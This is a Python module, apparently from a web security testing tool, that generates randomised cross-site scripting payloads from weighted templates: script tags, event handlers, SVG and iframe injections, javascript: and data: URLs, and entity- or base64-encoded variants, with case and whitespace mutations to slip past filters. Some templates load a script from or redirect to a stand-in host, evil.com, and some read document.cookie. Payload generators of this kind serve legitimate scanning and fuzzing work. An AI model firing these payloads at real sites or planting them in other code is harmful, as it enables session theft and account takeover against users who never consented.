"""Template-based random XSS payload generator.

Payloads are drawn from seven weighted categories. Each category fills one
of its templates with randomly chosen JavaScript, event handlers, tags and
quoting, and a fraction of the results get an extra perturbation of the
first tag. All randomness comes from the ``random.Random`` passed in, so a
seeded generator reproduces its output exactly.
"""

from __future__ import annotations

import base64
import random
import re
from dataclasses import dataclass
from typing import Any, Callable

INJECTION_CONTEXTS: tuple[str, ...] = ("any", "html", "url")

VARIATION_CHANCE = 0.3

JS_PAYLOADS = (
    "alert(1)",
    "alert(document.domain)",
    "alert(document.cookie)",
    "alert(window.origin)",
    "prompt(1)",
    "confirm(1)",
    "console.log(1)",
    'eval("alert(1)")',
    'window.location="//evil.com"',
)

EVENT_HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus",
    "onblur", "onchange", "onsubmit", "oninput", "onmouseenter",
    "onmouseleave", "ondblclick", "onkeypress", "onkeydown",
    "onbeforeunload", "onanimationend", "ontransitionend",
)

HTML_TAGS = (
    "img", "svg", "body", "input", "div", "iframe", "object",
    "embed", "video", "audio", "details", "summary", "marquee",
    "form", "button", "select", "textarea", "keygen",
)

HTML_ATTRIBUTES = (
    "src", "href", "data", "action", "formaction", "poster",
    "background", "cite", "codebase", "profile", "usemap",
)

QUOTE_STYLES = ('"', "'", "")
WHITESPACE = ("", " ", "\t", "\n", "\r", " \t", "\n\t")
COMMENTS = ("/**/", "<!--", "-->", "/* test */", "// comment\n")

_FIRST_TAG = re.compile(r"<(\w+)")


@dataclass(frozen=True)
class GeneratedPayload:
    payload: str
    category: str
    technique: str
    context: str
    mutation_strategy: str | None = None

    def to_dict(self) -> dict[str, Any]:
        data: dict[str, Any] = {
            "payload": self.payload,
            "category": self.category,
            "technique": self.technique,
            "context": self.context,
            "generated": True,
        }
        if self.mutation_strategy is not None:
            data["mutationStrategy"] = self.mutation_strategy
            data["mutated"] = True
        return data


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def _num(rng: random.Random) -> int:
    return rng.randint(1, 100)


# ---------------------------------------------------------------------------
# Category builders
# ---------------------------------------------------------------------------


def _script_tag(rng: random.Random) -> GeneratedPayload:
    js = rng.choice(JS_PAYLOADS)
    num = _num(rng)
    quote = rng.choice(QUOTE_STYLES)
    ws = rng.choice(WHITESPACE)
    templates = (
        f"<script>{js}</script>",
        f"<script{ws}>{js}</script>",
        f"<script>alert({num})</script>",
        f"<script src={quote}//evil.com/xss.js{quote}></script>",
        f"<script/**/>{js}</script>",
        f"<script>/**/alert({num})/**/</script>",
        f'<script>eval("{js}")</script>',
        f"<script>prompt({num})</script>",
        f"<script>confirm({num})</script>",
        f'<script>setTimeout("{js}",0)</script>',
    )
    return GeneratedPayload(rng.choice(templates), "script-tag", "script", "html")


def _event_handler(rng: random.Random) -> GeneratedPayload:
    tag = rng.choice(HTML_TAGS)
    event = rng.choice(EVENT_HANDLERS)
    js = rng.choice(JS_PAYLOADS)
    attr = rng.choice(HTML_ATTRIBUTES)
    quote = rng.choice(QUOTE_STYLES)
    ws = rng.choice(WHITESPACE)
    num = _num(rng)
    templates = (
        f"<img src=x {event}=alert({num})>",
        f"<svg/{event}=alert({num})>",
        f"<{tag} {event}=alert({num})>",
        f"<{tag}{ws}{event}={quote}{js}{quote}>",
        f"<img {attr}=x {event}=alert({num})>",
        f"<{tag} autofocus {event}=alert({num})>",
        f"<body {event}={quote}alert({num}){quote}>",
        f"<input {event}={js} autofocus>",
        f"<details open {event}=alert({num})>",
        f"<select {event}=alert({num})><option>click</option></select>",
    )
    return GeneratedPayload(rng.choice(templates), "event-handler", event, "html")


def _svg(rng: random.Random) -> GeneratedPayload:
    js = rng.choice(JS_PAYLOADS)
    num = _num(rng)
    ws = rng.choice(WHITESPACE)
    templates = (
        f"<svg><script>{js}</script></svg>",
        f"<svg/onload=alert({num})>",
        f"<svg{ws}onload={js}>",
        f"<svg><animate onbegin=alert({num}) />",
        f"<svg><set attributeName=onload to=alert({num})>",
        f"<svg><script>alert({num})</script></svg>",
        f"<svg><foreignObject><body onload=alert({num})></foreignObject></svg>",
        f"<svg><use xlink:href=\"data:image/svg+xml,<svg id='x' "
        f"xmlns='http://www.w3.org/2000/svg'><script>alert({num})</script></svg>#x\" />",
        f"<svg onload=alert({num})//",
        f"<math><mtext><table><mglyph><svg onload=alert({num})>",
    )
    return GeneratedPayload(rng.choice(templates), "svg", "svg-injection", "html")


def _protocol_handler(rng: random.Random) -> GeneratedPayload:
    js = rng.choice(JS_PAYLOADS)
    num = _num(rng)
    script_tag = f"<script>alert({num})</script>"
    templates = (
        f"javascript:alert({num})",
        f"javascript:{js}",
        f"data:text/html,{script_tag}",
        f"data:text/html,<body onload=alert({num})>",
        f"data:text/html;base64,{_b64(script_tag)}",
        f"data:text/html;charset=utf-8,<script>alert({num})</script>",
        f"vbscript:msgbox({num})",
        f"javascript:void({js})",
        f"javascript://comment%0aalert({num})",
        f"data:,alert({num})",
    )
    return GeneratedPayload(rng.choice(templates), "protocol-handler", "protocol", "url")


def _iframe(rng: random.Random) -> GeneratedPayload:
    js = rng.choice(JS_PAYLOADS)
    num = _num(rng)
    quote = rng.choice(QUOTE_STYLES)
    event = rng.choice(EVENT_HANDLERS)
    templates = (
        f"<iframe src={quote}javascript:alert({num}){quote}>",
        f"<iframe srcdoc={quote}<script>alert({num})</script>{quote}>",
        f"<iframe onload=alert({num})>",
        f"<iframe src=javascript:{js}>",
        f'<iframe srcdoc="<body onload=alert({num})>">',
        f"<iframe src=data:text/html,<script>alert({num})</script>>",
        f"<iframe src=//evil.com onload=alert({num})>",
        f"<iframe src=x {event}=alert({num})>",
        f'<iframe sandbox=allow-scripts srcdoc="<script>alert({num})</script>">',
        f"<iframe name=alert({num})>",
    )
    return GeneratedPayload(rng.choice(templates), "iframe", "iframe-injection", "html")


def _attribute(rng: random.Random) -> GeneratedPayload:
    num = _num(rng)
    quote = rng.choice(QUOTE_STYLES)
    templates = (
        f"<a href={quote}javascript:alert({num}){quote}>click</a>",
        f"<form action={quote}javascript:alert({num}){quote}><input type=submit>",
        f"<object data={quote}javascript:alert({num}){quote}>",
        f"<embed src=javascript:alert({num})>",
        f"<link rel=import href=data:text/html,<script>alert({num})</script>>",
        f"<base href=javascript:alert({num})//>",
        f"<video src=x onerror=alert({num})>",
        f"<audio src=x onerror=alert({num})>",
        f"<button formaction=javascript:alert({num})>click</button>",
        f"<input type=image src=x formaction=javascript:alert({num})>",
    )
    return GeneratedPayload(rng.choice(templates), "attribute", "attribute-injection", "html")


_ENTITY_ALERT = "".join(f"&#{ord(c)};" for c in "alert(1)")
_HEX_ENTITY_ALERT = "".join(f"&#x{ord(c):x};" for c in "alert(1)")
_CHAR_CODES = ",".join(str(ord(c)) for c in "alert(1)")


def _encoded(rng: random.Random) -> GeneratedPayload:
    num = _num(rng)
    encoded_js = _b64(rng.choice(JS_PAYLOADS))
    templates = (
        f'<img src=x onerror="{_ENTITY_ALERT}">',
        f'<img src=x onerror="{_HEX_ENTITY_ALERT}">',
        f"<svg><script>eval(String.fromCharCode({_CHAR_CODES}))</script></svg>",
        f"<img src=x onerror=eval(atob('{encoded_js}'))>",
        f"<svg><script>eval(atob('{encoded_js}'))</script></svg>",
        f'<img src=x onerror="&#x61;lert({num})">',
        f"<svg onload=&#97;&#108;&#101;&#114;&#116;({num})>",
        f"<img src=x onerror=alert({num})>",
        f"<script>eval('\\u0061lert({num})')</script>",
        f"<img src=x onerror=eval('\\x61lert({num})')>",
    )
    return GeneratedPayload(rng.choice(templates), "encoded", "encoding", "html")


# (builder, weight, context)
CATEGORIES: tuple[tuple[Callable[[random.Random], GeneratedPayload], int, str], ...] = (
    (_script_tag, 20, "html"),
    (_event_handler, 30, "html"),
    (_svg, 15, "html"),
    (_protocol_handler, 15, "url"),
    (_iframe, 10, "html"),
    (_attribute, 5, "html"),
    (_encoded, 5, "html"),
)


def apply_random_variations(payload: str, rng: random.Random) -> str:
    """Perturb the first tag: whitespace, mixed case or a trailing comment."""
    result = payload

    if rng.random() < 0.2:
        ws = rng.choice(WHITESPACE)
        result = _FIRST_TAG.sub(lambda m: f"<{ws}{m.group(1)}", result, count=1)

    if rng.random() < 0.1:
        result = _FIRST_TAG.sub(
            lambda m: "<" + "".join(
                c.upper() if rng.random() < 0.5 else c.lower() for c in m.group(1)
            ),
            result,
            count=1,
        )

    if rng.random() < 0.05:
        comment = rng.choice(COMMENTS)
        result = result.replace(">", f">{comment}", 1)

    return result


def generate_random_payloads(
    count: int = 10,
    context: str = "any",
    apply_variations: bool = True,
    rng: random.Random | None = None,
) -> list[GeneratedPayload]:
    """Generate *count* random payloads.

    Args:
        count: Number of payloads; values below 1 yield an empty list.
        context: ``html`` or ``url`` restricts generation to categories for
            that injection context; ``any`` (or an unknown value) uses all.
        apply_variations: When True each payload has a 30% chance of an
            extra tag perturbation.
        rng: Source of randomness; a fresh unseeded ``random.Random`` when
            omitted.
    """
    rng = rng or random.Random()
    pool = [
        (builder, weight)
        for builder, weight, category_context in CATEGORIES
        if context not in ("html", "url") or category_context == context
    ]
    builders = [builder for builder, _ in pool]
    weights = [weight for _, weight in pool]

    payloads: list[GeneratedPayload] = []
    for _ in range(max(count, 0)):
        builder = rng.choices(builders, weights=weights, k=1)[0]
        generated = builder(rng)
        if apply_variations and rng.random() < VARIATION_CHANCE:
            generated = GeneratedPayload(
                apply_random_variations(generated.payload, rng),
                generated.category,
                generated.technique,
                generated.context,
            )
        payloads.append(generated)
    return payloads
